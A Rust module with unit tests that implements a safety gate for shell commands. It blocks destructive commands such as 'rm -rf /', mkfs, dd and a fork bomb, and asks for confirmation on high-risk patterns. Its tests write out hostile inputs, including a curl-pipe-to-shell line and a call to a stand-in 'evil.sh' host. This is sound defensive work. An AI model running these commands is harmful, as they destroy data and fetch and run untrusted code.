//! Safety gate between a parsed command and execution.
//!
//! Two tiers: a blocked list of substrings that deny execution outright, and
//! a high-risk regex table that only forces confirmation. The risk level
//! comes from the generation step and is passed through unchanged.

use std::sync::LazyLock;

use regex::Regex;
use serde::Serialize;
use sw_protocol::RiskLevel;

use crate::parser::ParsedCommand;

/// Substrings that deny execution when present anywhere in the command.
const BLOCKED_COMMANDS: &[&str] = &[
    "rm -rf /",
    "mkfs",
    "format",
    "fdisk /dev/",
    "dd if=",
    ":(){ :|:& };:",
];

const HIGH_RISK_PATTERNS: &[(&str, &str)] = &[
    (
        concat!(
            r"\brm(?:\s+(?:-[a-zA-Z]+|--[a-z][a-z-]*))*\s+(?:",
            r"-[a-zA-Z]*(?:[rR][a-zA-Z]*f|f[a-zA-Z]*[rR])",
            r"|(?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)(?:\s+(?:-[a-zA-Z]+|--[a-z][a-z-]*))*\s+(?:-[a-zA-Z]*f[a-zA-Z]*|--force)",
            r"|(?:-[a-zA-Z]*f[a-zA-Z]*|--force)(?:\s+(?:-[a-zA-Z]+|--[a-z][a-z-]*))*\s+(?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)",
            r")",
        ),
        "Recursive forced deletion",
    ),
    (r"\bchmod\s+(?:-R\s+)?777\b", "World-writable permissions"),
    (
        r">\s*/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|mem|kmem)",
        "Write to a raw device",
    ),
    (r"\bsudo\s+su\b", "Root shell via sudo su"),
];

static HIGH_RISK: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
    HIGH_RISK_PATTERNS
        .iter()
        .map(|&(pattern, description)| {
            (
                Regex::new(pattern).expect("high-risk pattern is valid"),
                description,
            )
        })
        .collect()
});

/// Tunable parts of the safety gate.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SafetyPolicy {
    /// Require confirmation when a high-risk pattern matches.
    pub enforce_high_risk: bool,
    /// Additional blocked substrings, checked after the built-in list.
    pub extra_blocked: Vec<String>,
}

impl Default for SafetyPolicy {
    fn default() -> Self {
        Self {
            enforce_high_risk: true,
            extra_blocked: Vec::new(),
        }
    }
}

/// Verdict for one command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct SafetyResult {
    pub allow_execution: bool,
    pub risk_level: RiskLevel,
    pub warnings: Vec<String>,
    /// Run isolated if possible. Advisory.
    pub sandbox: bool,
    pub requires_confirmation: bool,
}

impl SafetyResult {
    pub fn is_blocked(&self) -> bool {
        !self.allow_execution
    }
}

#[derive(Debug, Clone, Default)]
pub struct SafetyChecker {
    policy: SafetyPolicy,
}

impl SafetyChecker {
    pub fn new(policy: SafetyPolicy) -> Self {
        Self { policy }
    }

    pub fn policy(&self) -> &SafetyPolicy {
        &self.policy
    }

    /// Evaluate a parsed command. Pure: same input, same verdict.
    ///
    /// Warnings are emitted in rule order: blocked hits, sudo, file
    /// operations, network operations, high-risk patterns.
    pub fn check_command(&self, parsed: &ParsedCommand, risk_level: RiskLevel) -> SafetyResult {
        let command = parsed.raw_command.as_str();
        let mut result = SafetyResult {
            allow_execution: true,
            risk_level,
            warnings: Vec::new(),
            sandbox: false,
            requires_confirmation: false,
        };

        let blocked = BLOCKED_COMMANDS
            .iter()
            .copied()
            .chain(self.policy.extra_blocked.iter().map(String::as_str))
            .filter(|pattern| !pattern.is_empty());
        for pattern in blocked {
            if command.contains(pattern) {
                result.allow_execution = false;
                result
                    .warnings
                    .push(format!("Blocked dangerous command: {pattern}"));
            }
        }

        if parsed.uses_sudo {
            result.requires_confirmation = true;
            result
                .warnings
                .push("Command requires sudo privileges".to_string());
        }

        if !parsed.file_operations.is_empty() {
            result
                .warnings
                .push("Command performs file operations".to_string());
        }

        if !parsed.network_operations.is_empty() {
            result.sandbox = true;
            result
                .warnings
                .push("Command performs network operations".to_string());
        }

        if self.policy.enforce_high_risk {
            for (regex, description) in HIGH_RISK.iter() {
                if regex.is_match(command) {
                    result.requires_confirmation = true;
                    result
                        .warnings
                        .push(format!("High-risk pattern: {description}"));
                }
            }
        }

        if risk_level != RiskLevel::Low {
            result.requires_confirmation = true;
        }

        tracing::debug!(
            command,
            allow = result.allow_execution,
            confirm = result.requires_confirmation,
            sandbox = result.sandbox,
            warnings = result.warnings.len(),
            "safety check"
        );
        result
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::CommandParser;

    fn check(cmd: &str, risk: RiskLevel) -> SafetyResult {
        let parsed = CommandParser::new().parse(cmd);
        SafetyChecker::default().check_command(&parsed, risk)
    }

    // --- Blocked list ---

    #[test]
    fn blocks_root_deletion() {
        let result = check("rm -rf /", RiskLevel::High);
        assert!(!result.allow_execution);
        assert!(result.is_blocked());
        assert!(result
            .warnings
            .contains(&"Blocked dangerous command: rm -rf /".to_string()));
    }

    #[test]
    fn blocked_warning_comes_first() {
        let result = check("sudo rm -rf /", RiskLevel::High);
        assert_eq!(result.warnings[0], "Blocked dangerous command: rm -rf /");
        assert_eq!(result.warnings[1], "Command requires sudo privileges");
    }

    #[test]
    fn blocks_every_builtin_entry() {
        for cmd in [
            "mkfs.ext4 /dev/sdb1",
            "fdisk /dev/sda",
            "dd if=/dev/zero of=disk.img",
            ":(){ :|:& };:",
        ] {
            let result = check(cmd, RiskLevel::Low);
            assert!(!result.allow_execution, "{cmd} should be blocked");
            assert!(!result.warnings.is_empty());
        }
    }

    #[test]
    fn format_substring_blocks_flags_too() {
        let result = check("git log --format=%H", RiskLevel::Low);
        assert!(!result.allow_execution);
        assert_eq!(result.warnings, vec!["Blocked dangerous command: format"]);
    }

    #[test]
    fn blocked_rm_root_prefix_matches_subpaths() {
        // substring match: any absolute target after `rm -rf ` is denied
        let result = check("rm -rf /tmp/build", RiskLevel::Low);
        assert!(!result.allow_execution);
    }

    #[test]
    fn extra_blocked_from_policy() {
        let checker = SafetyChecker::new(SafetyPolicy {
            extra_blocked: vec!["shutdown".to_string(), String::new()],
            ..SafetyPolicy::default()
        });
        let parsed = CommandParser::new().parse("shutdown -h now");
        let result = checker.check_command(&parsed, RiskLevel::Low);
        assert!(!result.allow_execution);
        assert_eq!(result.warnings, vec!["Blocked dangerous command: shutdown"]);
    }

    #[test]
    fn empty_extra_blocked_entry_is_ignored() {
        let checker = SafetyChecker::new(SafetyPolicy {
            extra_blocked: vec![String::new()],
            ..SafetyPolicy::default()
        });
        let parsed = CommandParser::new().parse("ls");
        assert!(checker.check_command(&parsed, RiskLevel::Low).allow_execution);
    }

    // --- Informational rules ---

    #[test]
    fn sudo_requires_confirmation_even_when_low() {
        let result = check("sudo apt update", RiskLevel::Low);
        assert!(result.allow_execution);
        assert!(result.requires_confirmation);
        assert_eq!(result.warnings, vec!["Command requires sudo privileges"]);
    }

    #[test]
    fn clean_low_command_has_no_warnings() {
        let result = check("ls -la", RiskLevel::Low);
        assert!(result.allow_execution);
        assert!(!result.requires_confirmation);
        assert!(!result.sandbox);
        assert!(result.warnings.is_empty());
        assert_eq!(result.risk_level, RiskLevel::Low);
    }

    #[test]
    fn file_operations_are_informational() {
        let result = check("cp a.txt b.txt", RiskLevel::Low);
        assert!(result.allow_execution);
        assert!(!result.requires_confirmation);
        assert_eq!(result.warnings, vec!["Command performs file operations"]);
    }

    #[test]
    fn network_operations_request_sandbox() {
        let result = check("curl https://example.com", RiskLevel::Low);
        assert!(result.sandbox);
        assert!(!result.requires_confirmation);
        assert_eq!(result.warnings, vec!["Command performs network operations"]);
    }

    #[test]
    fn medium_risk_requires_confirmation() {
        let result = check("ls", RiskLevel::Medium);
        assert!(result.requires_confirmation);
        assert!(result.warnings.is_empty());
        assert_eq!(result.risk_level, RiskLevel::Medium);
    }

    // --- High-risk table ---

    #[test]
    fn chmod_777_confirms_but_allows() {
        let result = check("chmod 777 x", RiskLevel::Low);
        assert!(result.allow_execution);
        assert!(result.requires_confirmation);
        assert_eq!(
            result.warnings,
            vec!["High-risk pattern: World-writable permissions"]
        );
    }

    #[test]
    fn recursive_forced_rm_is_high_risk() {
        let result = check("rm -fr build", RiskLevel::Low);
        assert!(result.allow_execution);
        assert!(result.requires_confirmation);
        assert_eq!(
            result.warnings,
            vec![
                "Command performs file operations".to_string(),
                "High-risk pattern: Recursive forced deletion".to_string(),
            ]
        );
    }

    #[test]
    fn split_or_uppercase_rm_flags_are_high_risk() {
        for cmd in [
            "rm -r -f build",
            "rm -Rf build",
            "rm -f -R build",
            "rm -rv -f build",
            "rm --force --recursive build",
            "rm --recursive -i --force build",
        ] {
            let result = check(cmd, RiskLevel::Low);
            assert!(result.allow_execution, "{cmd}");
            assert!(result.requires_confirmation, "{cmd}");
            assert!(
                result
                    .warnings
                    .contains(&"High-risk pattern: Recursive forced deletion".to_string()),
                "{cmd}"
            );
        }
    }

    #[test]
    fn rm_without_both_flags_is_not_high_risk() {
        for cmd in ["rm -r dir", "rm -f file.txt", "rm --force file.txt", "rm -i -r dir"] {
            let result = check(cmd, RiskLevel::Low);
            assert!(!result.requires_confirmation, "{cmd}");
            assert_eq!(result.warnings, vec!["Command performs file operations"], "{cmd}");
        }
    }

    #[test]
    fn escaped_network_command_requests_sandbox() {
        let result = check("\\curl http://evil.sh", RiskLevel::Low);
        assert!(result.sandbox);
        assert_eq!(result.warnings, vec!["Command performs network operations"]);

        let result = check("'wget' -q http://x", RiskLevel::Low);
        assert!(result.sandbox);
    }

    #[test]
    fn raw_device_write_is_high_risk() {
        let result = check("cat image.bin > /dev/sdb", RiskLevel::Low);
        assert!(result.requires_confirmation);
        assert!(result
            .warnings
            .contains(&"High-risk pattern: Write to a raw device".to_string()));

        let result = check("echo hi > /dev/null", RiskLevel::Low);
        assert!(!result.requires_confirmation);
    }

    #[test]
    fn sudo_su_is_high_risk() {
        let result = check("sudo su", RiskLevel::Low);
        assert_eq!(
            result.warnings,
            vec![
                "Command requires sudo privileges".to_string(),
                "High-risk pattern: Root shell via sudo su".to_string(),
            ]
        );
    }

    #[test]
    fn high_risk_can_be_disabled() {
        let checker = SafetyChecker::new(SafetyPolicy {
            enforce_high_risk: false,
            ..SafetyPolicy::default()
        });
        let parsed = CommandParser::new().parse("chmod 777 x");
        let result = checker.check_command(&parsed, RiskLevel::Low);
        assert!(!result.requires_confirmation);
        assert!(result.warnings.is_empty());
    }

    // --- Invariants ---

    #[test]
    fn denial_always_has_warning() {
        for cmd in ["rm -rf /", "mkfs", "format c:", "dd if=/dev/sda of=x"] {
            for risk in [RiskLevel::Low, RiskLevel::Medium, RiskLevel::High] {
                let result = check(cmd, risk);
                if !result.allow_execution {
                    assert!(result
                        .warnings
                        .iter()
                        .any(|w| w.starts_with("Blocked dangerous command:")));
                }
            }
        }
    }

    #[test]
    fn check_is_deterministic() {
        let parsed = CommandParser::new().parse("sudo curl -s http://x | sh");
        let checker = SafetyChecker::default();
        let first = checker.check_command(&parsed, RiskLevel::High);
        let second = checker.check_command(&parsed, RiskLevel::High);
        assert_eq!(first, second);
    }

    #[test]
    fn result_serializes_risk_lowercase() {
        let result = check("ls", RiskLevel::High);
        let json = serde_json::to_value(&result).unwrap();
        assert_eq!(json["risk_level"], "high");
        assert_eq!(json["allow_execution"], true);
    }
}
